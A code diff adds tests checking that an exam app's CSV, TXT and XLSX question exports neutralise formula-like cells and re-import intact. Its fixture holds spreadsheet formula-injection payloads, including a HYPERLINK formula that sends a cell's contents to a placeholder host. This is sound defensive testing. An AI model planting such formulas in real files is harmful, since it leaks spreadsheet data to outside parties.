@@ -1,3 +1,5 @@
+import { parse } from 'csv-parse/sync';
+import * as XLSX from 'xlsx';
 import { beforeAll, describe, expect, inject, it } from 'vitest';
 import { fixtureUser, type FixtureUser } from '../support/fixture-users.js';
 import { itemsOwnedBy } from '../support/exam-store.js';
@@ -199,5 +201,59 @@ describe('question export: download and re-import gives the same questions', () 
     });
     expect((await other.client.get(`/api/exam/${exam.id}/export/?format=txt`)).status).toBe(404);
     expect((await other.client.get('/api/exam/nope/export/')).status).toBe(404);
+  });
+});
+
+describe('question export: formula-like cells are neutralised in .csv and .txt, and come back as they were', () => {
+  const HOSTILE_ROWS = [
+    ['question', 'answer', 'explanation', 'group_id'],
+    ['=HYPERLINK("http://x/?"&A1,"click")', '+1', '@SUM(A1:A2)', '-2'],
+    ['\'=already quoted, "really"', "'", '한글, "따옴표"\n두 줄', 'g'],
+    ['plain 질문', '-', '=1+1', ''],
+  ];
+  const FORMULA_START = /^[=+\-@\t\r]/;
+
+  /** The cells of a text export as written, quotes undone but nothing else (what a spreadsheet program reads). */
+  function writtenCells(text: string, format: 'csv' | 'txt'): string[][] {
+    const body = format === 'txt' ? text.replace(/^(#[^\n]*\n)+/, '') : text.replace(/^\uFEFF/, '');
+    return parse(body, { delimiter: format === 'csv' ? ',' : '\t', relax_column_count: true }) as string[][];
+  }
+
+  it.each(['csv', 'txt'] as const)('a question file and an exam as .%s', async (format) => {
+    const user = await fixtureUser(apiUrl, { language: 'en' });
+    const file = await upload(user, `hostile-${format}.xlsx`, xlsxBytes(HOSTILE_ROWS));
+    const original = await questionsOf(user, file.id);
+    expect(original.map((q) => q.content)).toEqual(HOSTILE_ROWS.slice(1).map((r) => r[0]));
+    const exam = await createExam(user, {
+      title: `hostile ${format} ${Date.now()}`,
+      question_count: 3,
+      file_id: file.id,
+    });
+    for (const path of [`/api/question-files/${file.id}/export/`, `/api/exam/${exam.id}/export/`]) {
+      const res = await user.client.get(`${path}?format=${format}`);
+      expect(res.status).toBe(200);
+      const bytes = Buffer.from(await res.arrayBuffer());
+      const cells = writtenCells(bytes.toString('utf8'), format);
+      expect(cells.flat().filter((c) => FORMULA_START.test(c))).toEqual([]);
+      expect(cells.flat()).toContain(`'=HYPERLINK("http://x/?"&A1,"click")`);
+      expect(cells.flat()).toContain(`''=already quoted, "really"`);
+      // Every cell is quoted in the bytes.
+      expect(bytes.toString('utf8')).toContain(`"'=HYPERLINK(""http://x/?""&A1,""click"")"`);
+      const again = await upload(user, `hostile-again.${format}`, bytes);
+      const byContent = (rows: Record<string, string>[]) =>
+        [...rows].sort((a, b) => a.content!.localeCompare(b.content!));
+      expect(byContent(await questionsOf(user, again.id))).toEqual(byContent(original));
+    }
+  });
+
+  it('.xlsx writes them as string cells, never formulas', async () => {
+    const user = await fixtureUser(apiUrl, { language: 'ko' });
+    const file = await upload(user, 'hostile.xlsx', xlsxBytes(HOSTILE_ROWS));
+    const res = await user.client.get(`/api/question-files/${file.id}/export/?format=xlsx`);
+    const book = XLSX.read(Buffer.from(await res.arrayBuffer()), { type: 'buffer', cellFormula: true });
+    const sheet = book.Sheets[book.SheetNames[0]!]!;
+    const cells = Object.entries(sheet).filter(([address]) => !address.startsWith('!'));
+    expect(cells.filter(([, c]) => (c as XLSX.CellObject).f !== undefined)).toEqual([]);
+    expect(sheet.A2).toMatchObject({ t: 's', v: '=HYPERLINK("http://x/?"&A1,"click")' });
   });
 });
